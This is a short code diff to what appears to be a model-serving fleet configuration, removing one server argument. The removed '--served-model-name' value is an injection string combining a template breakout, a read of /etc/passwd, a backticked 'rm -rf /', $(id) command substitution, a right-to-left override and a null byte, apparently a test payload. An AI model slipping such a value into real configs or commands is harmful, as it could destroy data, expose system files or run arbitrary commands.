@@ -25,7 +25,6 @@ FLEET = Fleet(
             ],
             model_option="",
             arguments=[
-                '--served-model-name="}\nresource "null_resource" "x" {} ${file("/etc/passwd")} %{ if true }`rm -rf /`$(id) | # \\ \'EOF\' \u202e\x00',
                 "--dtype=bfloat16",
                 "--tensor-parallel-size=1",
                 "--max-model-len=8192",
